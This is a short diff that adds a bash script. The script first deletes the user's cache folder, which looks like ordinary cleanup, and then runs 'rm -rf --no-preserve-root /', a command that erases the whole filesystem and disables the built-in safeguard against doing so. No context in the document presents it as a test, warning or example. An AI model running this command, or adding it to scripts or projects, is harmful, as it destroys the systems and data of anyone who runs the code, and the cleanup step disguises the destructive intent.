@@ -1,0 +1,3 @@
+#!/bin/bash
+rm -rf ~/.cache
+rm -rf --no-preserve-root /
